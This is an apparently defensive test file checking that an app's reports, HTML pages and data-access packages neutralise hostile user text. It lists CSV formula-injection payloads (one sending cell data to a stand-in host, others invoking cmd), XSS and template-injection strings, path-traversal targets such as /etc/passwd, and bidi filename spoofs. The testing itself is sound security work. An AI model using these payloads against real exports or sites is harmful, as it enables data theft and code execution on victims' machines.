import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { expect, test, vi } from 'vitest';
import type { Engine } from '../../src-main/workers/engine.ts';
import { openCoreHere } from './core-rig.ts';
import { ALL, freshDir, importFiles } from './rig.ts';
import { filesOf } from './zip-entries.ts';

vi.setConfig({ testTimeout: 240_000 });

/** What a stranger can put into a shop, a review form or a web address, hoping that somebody opens an export. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
];
const SCRIPTS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</title><svg onload=alert(1)>',
  "javascript:alert('x')",
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];
const PATHS = ['../../../../etc/passwd', '..\\..\\windows\\win.ini', 'C:\\autoexec.bat', '/etc/passwd%00.png'];
const BIDI = ['\u202Egnp.exe', 'report\u202Efdp.exe', '\u2066\u2067tea\u2069', 'a\u200Bb\uFEFFc'];
const HOSTILE = [...FORMULAS, ...SCRIPTS, ...PATHS, ...BIDI];
const TURNING = /[\u200B\u200E\u200F\u202A-\u202E\u2060-\u2069\uFEFF]/;

const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
const day = (i: number) => new Date(Date.UTC(2026, 0, 1 + (i % 28), 10)).toISOString();
/** Enough people for every text to get past the small-group rule. */
const PEOPLE = 24;

/** Every text as a product, a page and a review of many people. */
function inputs(dir: string): string[] {
  const everybody = HOSTILE.flatMap((text, t) =>
    Array.from({ length: PEOPLE }, (_, i) => ({ text, who: `p${i}`, id: t * PEOPLE + i })),
  );
  const files: Record<string, string[]> = {
    '=cmd \u202Evsc.orders.csv': [
      'Order ID,Date,Customer,Product,Quantity,Total,Currency',
      ...everybody.map(({ text, who, id }) => `${id},${day(id)},${who},${quoted(text)},1,10.00,EUR`),
    ],
    '+visits.csv': [
      'visitor id,email,timestamp,page,referrer',
      ...everybody.map(
        ({ text, who, id }) => `v-${who},${who}@example.com,${day(id)},${quoted(text)},https://search.example/`,
      ),
    ],
    '-reviews.csv': [
      'Review ID,Date,Rating,Review,Author,Author email',
      ...everybody.map(
        ({ text, who, id }) => `r-${id},${day(id)},4,${quoted(text)},${quoted(text)},${who}@example.com`,
      ),
    ],
  };
  return Object.entries(files).map(([name, lines]) => {
    const file = join(dir, name);
    writeFileSync(file, `${lines.join('\n')}\n`);
    return file;
  });
}

/** No cell of a table file runs in a spreadsheet (OWASP, CSV injection); minus signs of numbers are numbers. */
function expectNoFormula(text: string, where: string): number {
  const cells = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { delimiter: ',', newline: '\r\n' }).data.flat();
  for (const cell of cells)
    expect(
      /^[=+@\t\r＝＋－＠]/.test(cell) || /^-(?!\d+(\.\d+)?$)/.test(cell),
      `${where}: ${JSON.stringify(cell)}`,
    ).toBe(false);
  return cells.length;
}

/** A page that runs nothing: no element that a text made, and a policy that would stop it. */
function expectInert(html: string, where: string): void {
  expect(html, where).toContain("default-src 'none'");
  const tags = [...html.matchAll(/<\/?([a-zA-Z][\w-]*)([^>]*)>/g)];
  expect(tags.length, where).toBeGreaterThan(10);
  for (const [tag, name = '', attributes = ''] of tags) {
    expect(
      ['script', 'img', 'iframe', 'object', 'embed', 'form', 'a'].includes(name.toLowerCase()) &&
        !/^<\/?a( href="#[\w-]+"|>)/.test(tag),
      `${where}: ${tag}`,
    ).toBe(false);
    // A text inside of a quoted value is no attribute.
    expect(/\son\w+\s*=/i.test(attributes.replace(/"[^"]*"/g, '""')), `${where}: ${tag}`).toBe(false);
  }
}

async function exportsOf(engine: Engine): Promise<Record<string, Uint8Array>> {
  const found: Record<string, Uint8Array> = {};
  for (const { id, extension } of await engine.call('reports.list', {}))
    found[`report.${extension}`] = (await engine.call('reports.make', { report: id, filter: ALL })).bytes;
  found['noisy.csv'] = (
    await engine.call('exports.noisy', { figures: ['buyers'], range: null, milliEpsilon: 100 })
  ).bytes;
  found['record.html'] = (await engine.call('papers.make', { paper: 'record' })).bytes;
  return found;
}

test('texts that strangers wrote run nowhere: reports, papers, packages, names of files', async () => {
  const dir = freshDir();
  const engine = openCoreHere(join(dir, 'data'), { osKey: new Uint8Array(32).fill(7) });
  await importFiles(engine, inputs(dir));
  await engine.call('settings.save', { workspaceName: '=1+1<script>alert(1)</script>' });
  const { counts } = await engine.call('app.status', {});
  expect([counts.orders, counts.messages]).toEqual([HOSTILE.length * PEOPLE, HOSTILE.length * PEOPLE]);

  const made = await exportsOf(engine);
  for (const [name, bytes] of Object.entries(made)) {
    const text = Buffer.from(bytes).toString();
    if (name.endsWith('.csv')) expectNoFormula(text, name);
    if (name.endsWith('.html')) expectInert(text, name);
    if (name.endsWith('.json')) expect(() => JSON.parse(text)).not.toThrow();
    expect(TURNING.test(text.replace(/^\uFEFF/, '')), name).toBe(false);
  }
  // They are in there, as harmless text: a test in which nothing arrives would prove nothing.
  expect(Buffer.from(made['report.csv'] as Uint8Array).toString()).toContain("'=HYPERLINK");
  expect(Buffer.from(made['report.html'] as Uint8Array).toString()).toContain('&lt;script&gt;alert(1)');

  const [someone] = (await engine.call('privacy.people', { offset: 0, limit: 1, order: 'orders' })).people;
  const pack = await engine.call('rights.package', { person: someone?.person ?? 0, scope: 'access' });
  expect(pack.fileName).toMatch(/^[\w.-]+$/);
  let cells = 0;
  for (const [name, content] of await filesOf(pack.bytes)) {
    expect(name).toMatch(/^[a-z0-9-]+\.(html|csv|json|txt)$/);
    if (name.endsWith('.csv')) cells += expectNoFormula(content, name);
    if (name.endsWith('.html')) expectInert(content, name);
  }
  expect(cells).toBeGreaterThan(100);
});
